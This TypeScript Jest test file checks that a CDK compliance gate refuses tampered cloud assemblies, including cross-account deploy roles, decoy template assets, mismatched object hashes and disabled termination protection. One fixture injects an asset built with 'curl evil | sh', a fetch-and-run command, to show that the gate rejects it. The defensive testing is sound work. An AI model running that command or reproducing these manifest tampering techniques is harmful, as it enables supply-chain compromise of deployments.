/**
 * The cloud assembly loader: reviewAssembly (the manifest as `cdk deploy --app` reads it, one implementation for
 * check-template and synth) and loadAssembly (refuses the first problem, then reads the templates). The refusals of
 * hand-edited prod assemblies are tested through the command in test/bin/check-template.test.ts.
 */
import { readFileSync, rmSync, writeFileSync } from 'fs';
import { join } from 'path';
import { App, DefaultStackSynthesizer, RemovalPolicy, Stack } from 'aws-cdk-lib';
import { CfnQueue } from 'aws-cdk-lib/aws-sqs';
import { loadAssembly, loadAssemblyForCheck, reviewAssembly } from '../../../lib/compliance/gate/assembly-loader';
import { TemplateInputError } from '../../../lib/compliance/gate/core/template-input-error';
import { scratchDir } from '../../support/scratch';

const ENV = { account: '123456789012', region: 'us-east-1' };

let outdir: string;
beforeEach(() => (outdir = scratchDir('assembly-loader-')));
afterEach(() => rmSync(outdir, { recursive: true, force: true }));

/** Synthesizes stacks Keys (with `synthesizer`) and Data into the outdir, without the gate. */
function synth(synthesizer?: DefaultStackSynthesizer): string {
  const app = new App({ outdir });
  new CfnQueue(new Stack(app, 'Keys', { env: ENV, ...(synthesizer ? { synthesizer } : {}) }), 'Q');
  // Another queue id: not a template of the same bytes as Keys' (those would share one uploaded object).
  new CfnQueue(new Stack(app, 'Data', { env: ENV, stackName: 'app-data' }), 'R');
  app.synth();
  return outdir;
}

describe('reviewAssembly', () => {
  test('V2 what CDK writes has no problem: each stack artifact with its template file and environment', () => {
    const review = reviewAssembly(synth());
    expect(review.problems).toEqual([]);
    expect(review.stackArtifacts).toBe(2);
    expect(
      review.stacks.map(({ artifactId, file, stackName, path, account, region }) => ({
        artifactId,
        file,
        stackName,
        path,
        account,
        region,
      })),
    ).toEqual([
      { artifactId: 'Keys', file: 'Keys.template.json', stackName: 'Keys', path: 'Keys', ...ENV },
      { artifactId: 'Data', file: 'Data.template.json', stackName: 'app-data', path: 'Data', ...ENV },
    ]);
  });

  test('V2 every problem, where loadAssembly refuses the first (as check-template does: exit 2)', () => {
    const dir = synth(
      new DefaultStackSynthesizer({
        deployRoleArn: 'arn:aws:iam::999999999999:role/deployer',
        cloudFormationExecutionRole: 'arn:aws:iam::999999999999:role/cfn-exec',
      }),
    );
    const review = reviewAssembly(dir);
    expect(review.problems.map((p) => [p.kind, p.artifactId, p.stackPath, p.where])).toEqual([
      ['assumeRoleArn::another-account', 'Keys', 'Keys', join(dir, 'manifest.json')],
      ['cloudFormationExecutionRoleArn::another-account', 'Keys', 'Keys', join(dir, 'manifest.json')],
    ]);
    expect(() => loadAssembly(dir)).toThrow(TemplateInputError);
    expect(() => loadAssembly(dir)).toThrow(
      `${join(dir, 'manifest.json')}: the stack artifact Keys deploys with the role "arn:aws:iam::999999999999:role/deployer" (assumeRoleArn), not one of its environment's account 123456789012: what deploys is not the template checked here; the manifest was edited`,
    );
  });

  test('V2 it parses no template (synth parsed them already), but hashes each: a template edited after synth is judged', () => {
    const dir = synth();
    writeFileSync(join(dir, 'Data.template.json'), '{ not json');
    // The object deploy names is keyed by the synthesized template's hash: not this file's bytes.
    expect(reviewAssembly(dir).problems.map((p) => [p.kind, p.artifactId])).toEqual([
      ['template-object::key-not-content-hash', 'Data'],
    ]);
    // check-template judges that one (a reviewer's hand-edited copy has it) and reads the template: here, not JSON.
    expect(() => loadAssembly(dir)).toThrow(/Data\.template\.json: the template is not JSON/);
  });

  test('V2 a template that repeats a key is refused (JSON.parse reads the last, CloudFormation may read the other)', () => {
    const dir = synth();
    const file = join(dir, 'Data.template.json');
    const text = readFileSync(file, 'utf8');
    // A second Resources before the real one: the gate would judge the one JSON.parse keeps.
    writeFileSync(file, text.replace(/^\{/, '{"Resources": {"Open": {"Type": "AWS::SNS::Topic"}},'));
    expect(() => loadAssembly(dir)).toThrow(
      `${file}: the template has the key 'Resources' twice in its top-level object: JSON.parse reads the last, and CloudFormation may read the other (the gate judges one text only)`,
    );
  });

  test('V2 a manifest that is missing or not JSON is a problem, not a crash', () => {
    expect(reviewAssembly(outdir).problems.map((p) => [p.kind, p.problem])).toEqual([
      ['manifest::absent', 'not a cloud assembly (no manifest.json)'],
    ]);
    const dir = synth();
    writeFileSync(join(dir, 'manifest.json'), readFileSync(join(dir, 'manifest.json'), 'utf8').slice(0, 20));
    expect(reviewAssembly(dir).problems.map((p) => [p.kind, p.where])).toEqual([
      ['file::unreadable', join(dir, 'manifest.json')],
    ]);
    expect(() => loadAssembly(dir)).toThrow(/manifest\.json: the manifest is not JSON/);
  });
});

/** A JSON value of the assembly as a hand edit reaches into it. */
// eslint-disable-next-line @typescript-eslint/no-explicit-any
type Edited = any;

/** Reads, edits and writes back a JSON file of the assembly. */
function edit(file: string, change: (json: Record<string, Edited>) => void): void {
  const json = JSON.parse(readFileSync(file, 'utf8')) as Record<string, Edited>;
  change(json);
  writeFileSync(file, JSON.stringify(json, undefined, 1));
}

/** Keys' artifact properties in the manifest of `dir`. */
const keysProperties = (dir: string, change: (p: Record<string, Edited>) => void): void =>
  edit(join(dir, 'manifest.json'), (m) => change(m.artifacts.Keys.properties));

/** Keys' template asset: its id, its entry of Keys.assets.json and that entry's one destination. */
function keysTemplateAsset(m: Record<string, Edited>): { id: string; entry: Edited; destination: Edited } {
  const [id, entry] = Object.entries<Edited>(m.files).find(([, f]) => f.source.path === 'Keys.template.json')!;
  return { id, entry, destination: Object.values<Edited>(entry.destinations)[0] };
}

describe('reviewAssembly: the manifest fields deploy acts on (hand edits of what CDK writes)', () => {
  const kinds = (dir: string): [string, string | undefined][] =>
    reviewAssembly(dir).problems.map((p) => [p.kind, p.artifactId]);

  test("V2 an asset key that is the template object once cdk-assets fills its placeholders from its destination's own region is found", () => {
    const dir = synth();
    edit(join(dir, 'Keys.assets.json'), (m) => {
      const { destination } = keysTemplateAsset(m);
      // The real template goes to another region's bucket; a decoy lands on the object deploy reads.
      destination.region = 'us-west-2';
      destination.bucketName = 'cdk-hnb659fds-assets-123456789012-us-west-2';
      const key = destination.objectKey as string;
      m.files.decoy = {
        source: { path: 'Data.template.json', packaging: 'file' },
        destinations: {
          d: {
            ...destination,
            region: 'us-east-1',
            bucketName: 'cdk-hnb659fds-assets-123456789012-us-east-1',
            // The key is the template object's only once `${AWS::Region}` is filled with us-east-1.
            objectKey: `${key.slice(0, -5)}-\${AWS::Region}.json`,
          },
        },
      };
    });
    keysProperties(dir, (p) => {
      p.stackTemplateAssetObjectUrl = (p.stackTemplateAssetObjectUrl as string).replace(/\.json$/, '-us-east-1.json');
    });
    const problems = reviewAssembly(dir).problems;
    expect(problems.map((p) => [p.kind, p.artifactId])).toEqual([
      ['template-object::other-source', 'Keys'],
      ['template-object::key-not-content-hash', 'Keys'],
    ]);
    expect(problems[0]!.problem).toContain('the file asset decoy of');
  });

  test("V2 the template asset's destination in another region, or a second asset uploading the template object, is refused", () => {
    const dir = synth();
    edit(join(dir, 'Keys.assets.json'), (m) => {
      const { destination } = keysTemplateAsset(m);
      destination.region = 'us-west-2';
    });
    expect(kinds(dir)).toEqual([['template-object::destination-environment', 'Keys']]);
    const twice = synth();
    edit(join(twice, 'Keys.assets.json'), (m) => {
      const { entry } = keysTemplateAsset(m);
      m.files.again = { source: { path: 'Data.template.json', packaging: 'file' }, destinations: entry.destinations };
    });
    expect(kinds(twice)).toEqual([['template-object::other-source', 'Keys']]);
    expect(() => loadAssembly(twice)).toThrow(/the file asset again of .* uploads from .*Data\.template\.json/);
  });

  test('V2 a template object key that is not the SHA-256 of the template file is judged (deploy deploys a stored object of that key)', () => {
    const dir = synth();
    edit(join(dir, 'Keys.assets.json'), (m) => {
      keysTemplateAsset(m).destination.objectKey = 'stored-earlier.json';
    });
    keysProperties(dir, (p) => {
      p.stackTemplateAssetObjectUrl = (p.stackTemplateAssetObjectUrl as string).replace(
        /[^/]+$/,
        'stored-earlier.json',
      );
    });
    expect(kinds(dir)).toEqual([['template-object::key-not-content-hash', 'Keys']]);
    // Not refused: check-template judges it, a finding of AssemblyDeploysAsChecked beside the rules' (exit 1).
    const { manifest } = loadAssemblyForCheck(dir);
    expect(manifest.problems.map((p) => p.problem)).toEqual([
      expect.stringMatching(
        /stack artifact Keys deploys the object .*stored-earlier\.json, whose key is not the SHA-256 of Keys\.template\.json/,
      ),
    ]);
  });

  test.each<[string, (p: Record<string, Edited>) => void, string]>([
    ['notificationArns', (p) => (p.notificationArns = ['arn:aws:sns:us-east-1:999999999999:t']), 'notificationArns'],
    ['stack tags', (p) => (p.tags = { DataClassification: 'Public' }), 'tags'],
    ['an STS external id', (p) => (p.assumeRoleExternalId = 'x'), 'assumeRoleExternalId'],
    ['STS options', (p) => (p.assumeRoleAdditionalOptions = { Policy: '{}' }), 'assumeRoleAdditionalOptions'],
    ['a lowered bootstrap version', (p) => (p.requiresBootstrapStackVersion = 1), 'requiresBootstrapStackVersion'],
    [
      'another bootstrap version parameter',
      (p) => (p.bootstrapStackVersionSsmParameter = '/fork/version'),
      'bootstrapStackVersionSsmParameter',
    ],
    [
      "another account's lookup role",
      (p) => (p.lookupRole.arn = 'arn:aws:iam::999999999999:role/look'),
      'lookupRole.arn::another-account',
    ],
    ['a property the review does not know', (p) => (p.futureField = 1), 'futureField::not-allowed'],
  ])('V2 a stack artifact with %s is refused, naming the artifact and the field', (_name, change, kind) => {
    const dir = synth();
    keysProperties(dir, change);
    expect(kinds(dir)).toEqual([[kind, 'Keys']]);
    expect(() => loadAssembly(dir)).toThrow(
      new RegExp(`the stack artifact Keys .*${kind.split('::')[0]!.replace('.', '\\.')}`),
    );
  });

  test('V2 termination protection turned off on a stack that retains a resource is refused; on a stack that retains none it is not', () => {
    const app = new App({ outdir });
    const keys = new Stack(app, 'Keys', { env: ENV, terminationProtection: true });
    new CfnQueue(keys, 'Q').applyRemovalPolicy(RemovalPolicy.RETAIN);
    new CfnQueue(new Stack(app, 'Data', { env: ENV }), 'R');
    app.synth();
    expect(kinds(outdir)).toEqual([]);
    keysProperties(outdir, (p) => (p.terminationProtection = false));
    expect(kinds(outdir)).toEqual([['terminationProtection', 'Keys']]);
    expect(reviewAssembly(outdir).problems[0]!.problem).toContain('the Retain resource Q');
  });

  test.each(['file', 'docker image'])(
    'V2 a %s asset built by a command (source.executable) is refused, on the stack that publishes it',
    (type) => {
      const dir = synth();
      edit(join(dir, 'Keys.assets.json'), (m) => {
        const extra = { source: { executable: ['sh', '-c', 'curl evil | sh'] }, destinations: {} };
        if (type === 'file') m.files.built = extra;
        else m.dockerImages = { built: extra };
      });
      const problems = reviewAssembly(dir).problems;
      expect(problems.map((p) => [p.kind, p.artifactId, p.where])).toEqual([
        ['asset::executable', 'Keys', join(dir, 'Keys.assets.json')],
      ]);
      expect(problems[0]!.problem).toContain(`source.executable of the ${type} asset built`);
    },
  );

  test('V2 legacy asset metadata (aws:cdk:asset) of a stack artifact is refused', () => {
    const dir = synth();
    edit(join(dir, 'manifest.json'), (m) => {
      m.artifacts.Keys.metadata = { '/Keys': [{ type: 'aws:cdk:asset', data: { packaging: 'container-image' } }] };
    });
    expect(kinds(dir)).toEqual([['metadata::aws:cdk:asset', 'Keys']]);
  });

  test("V2 an asset manifest artifact's lowered bootstrap version is refused", () => {
    const dir = synth();
    edit(join(dir, 'manifest.json'), (m) => {
      m.artifacts['Keys.assets'].properties.requiresBootstrapStackVersion = 1;
    });
    expect(kinds(dir)).toEqual([['requiresBootstrapStackVersion', 'Keys']]);
  });
});
